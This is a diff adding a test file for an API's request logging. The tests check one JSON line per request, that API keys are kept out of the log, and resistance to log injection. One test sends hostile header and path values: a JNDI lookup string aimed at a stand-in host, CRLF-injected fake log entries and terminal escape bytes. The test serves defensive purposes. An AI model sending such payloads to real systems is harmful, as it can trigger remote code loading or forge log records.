@@ -1,0 +1,81 @@
+import { type Caller, openAccount } from './support/accounts';
+import { completeBatch } from './support/batches';
+import { type Api, newDomain, startApi, WEBHOOK } from './support/start-api';
+
+let api: Api;
+let caller: Caller;
+
+beforeAll(async () => {
+  api = await startApi();
+  caller = await openAccount(api.db);
+});
+afterAll(() => api.stop());
+
+const requestLines = (id: string) =>
+  api.logLines
+    .map((line) => JSON.parse(line) as Record<string, unknown>)
+    .filter((line) => line['request_id'] === id);
+
+describe('the log', () => {
+  it('has one line for each finished request, with what it was and what became of it', async () => {
+    const domain = newDomain();
+    await completeBatch(api.db, caller, domain);
+    const headers = { 'x-request-id': 'told-once' };
+    await api.get(`/company/${domain}`, { ...caller, headers, query: 'enrich=' });
+    expect(requestLines('told-once')).toEqual([
+      {
+        time: expect.any(String),
+        level: 'info',
+        msg: 'request',
+        service: 'api',
+        request_id: 'told-once',
+        method: 'GET',
+        path: `/api/v1/company/${domain}`,
+        status: 200,
+        duration_ms: expect.any(Number),
+        account_id: caller.accountId,
+        key_id: expect.any(Number),
+      },
+    ]);
+  });
+
+  it('says which batch was queued, and with which code a request was refused', async () => {
+    const headers = { 'x-request-id': 'queued', 'x-webhook-url': WEBHOOK };
+    const { body } = await api.get(`/company/${newDomain()}`, { ...caller, headers });
+    expect(requestLines('queued')).toMatchObject([{ status: 202, batch_id: body.batch_id }]);
+    await api.get('/account/info', { headers: { 'x-request-id': 'refused' } });
+    expect(requestLines('refused')).toMatchObject([{ status: 401, error: 'missing_api_key' }]);
+  });
+
+  it('holds no key, however it was sent', async () => {
+    const { key } = await openAccount(api.db);
+    await api.get('/account/info', { key });
+    await api.get('/account/info', { headers: { authorization: `Bearer ${key}` } });
+    await api.get('/account/info', { query: `api_key=${key}` });
+    await api.get('/account/info', { key: `${key}x` });
+    await api.get(`/company/${key}`, { key });
+    await api.get(`/enrichment/${key}/status`, { key });
+    await api.post('/account/webhook', { webhook_url: `https://${key}.example/` }, { key });
+    await api.post('/account/webhook', `{"${key}"`, { key });
+    const log = api.logLines.join('');
+    expect(api.logLines.length).toBeGreaterThanOrEqual(8);
+    expect(log).not.toContain(key.slice(4, 20));
+  });
+
+  it('stays one line of JSON for each event, whatever a request holds (79)', async () => {
+    const headers = {
+      'x-webhook-url': 'https://a/%0d%0a{"level":"error"}',
+      'x-request-id': 'a\u009b31mb',
+      'user-agent': '${jndi:ldap://evil.example}',
+    };
+    await api.get('/company/acme%0a%0d%1b[31m.com', { ...caller, headers });
+    await api.get('/nothing%0a{"level":"error"}', { ...caller, headers });
+    for (const line of api.logLines) {
+      expect(line).toMatch(/^\{[^\n\u001b]*\}\n$/);
+      expect(JSON.parse(line)).toMatchObject({
+        service: 'api',
+        level: expect.stringMatching(/^(info|warn)$/),
+      });
+    }
+  });
+});
